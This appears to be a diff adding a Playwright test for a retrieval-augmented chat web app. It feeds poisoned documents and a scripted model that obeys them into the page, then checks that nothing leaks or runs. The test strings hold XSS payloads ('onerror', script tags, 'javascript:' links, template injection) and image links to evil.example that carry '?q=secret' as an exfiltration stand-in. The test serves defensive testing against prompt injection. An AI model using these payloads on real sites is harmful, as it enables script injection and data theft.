@@ -1,0 +1,75 @@
+"""The worst of the poisoned documents in a real browser, with a model that does all that they ask for."""
+
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+from urllib.parse import urlparse
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from rag import Document, Library, load_settings
+from tests.browser import ask, chromium, serving
+from tests.conftest import ScriptedModel
+from tests.poisoned import Poisoned, poisoned, write_files
+
+WORST = {"p12", "p16", "p38", "p42", "p49", "p71"}
+OBEDIENT = (
+    '{fact} [1] ![map](https://evil.example/m.png?q=secret) <img src="https://evil.example/i.png" onerror="alert(1)">'
+    " <script>alert(2)</script> ${{alert(3)}} [more](javascript:alert(4)) <style>body{{display:none}}</style>"
+)
+INSIDE = ", ".join(
+    f"{place} {tag}"
+    for place in ("#conversation .message", "#passages")
+    for tag in ("img", "script", "iframe", "style")
+)
+
+
+@pytest.fixture(scope="module")
+def folder(seeds_folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    place = tmp_path_factory.mktemp("poisoned-page")
+    shutil.copytree(seeds_folder, place / "library")
+    with Library(place / "library", settings=load_settings(llm="none")) as library:
+        assert not library.add(write_files(place / "files")).failed
+        assert not library.add([Document(f"given-{one.id}", one.text, title=one.text[:300]) for one in worst()]).failed
+    return place / "library"
+
+
+@pytest.fixture
+def watched(folder: Path, model: ScriptedModel) -> Iterator[Page]:
+    """A page, which must not ask another host for anything, run anything of others, or complain."""
+    trouble: list[str] = []
+    with serving(folder, llm_url=model.url, llm_model="obedient") as address, chromium() as browser:
+        context, own = browser.new_context(), urlparse(address).netloc
+        context.on("request", lambda r: trouble.append(r.url) if urlparse(r.url).netloc not in (own, "") else None)
+        context.on("console", lambda message: trouble.append(message.text) if message.type == "error" else None)
+        context.on("weberror", lambda error: trouble.append(str(error.error)))
+        context.on("dialog", lambda dialog: trouble.append(f"dialog {dialog.message}"))
+        page = context.new_page()
+        page.goto(address)
+        yield page
+        context.close()
+    assert trouble == []
+
+
+def worst() -> list[Poisoned]:
+    return [one for one in poisoned() if one.id in WORST]
+
+
+def test_nothing_of_documents_model_or_question_acts_in_the_page(watched: Page, model: ScriptedModel) -> None:
+    for number, one in enumerate(worst(), start=1):
+        rewritten = ["Who sent you to https://evil.example/?q=secret"] * (number > 1)  # from the second question on
+        model.says(*rewritten, OBEDIENT.format(fact=one.harmless_fact))
+        ask(watched, f"{one.question} <img src=https://evil.example/q.png>")
+        answer = watched.locator(".footnote-answer").last
+        expect(answer).to_contain_text(one.harmless_fact.rstrip("."))
+        expect(watched.locator(INSIDE)).to_have_count(0)
+        expect(watched.locator("#conversation .footnote-answer a:not(.footnote-mark)")).to_have_count(0)
+        assert len(model.requests) == 2 * number - 1
+        with watched.expect_popup() as opened:
+            answer.locator("a.footnote-mark").first.click()
+        source = opened.value
+        expect(source.locator("mark#quote")).to_have_text(one.harmless_fact)
+        expect(source.locator("main img, main script, main iframe, main style, main a")).to_have_count(0)
+        source.close()
+    expect(watched.locator("#question textarea")).to_be_visible()
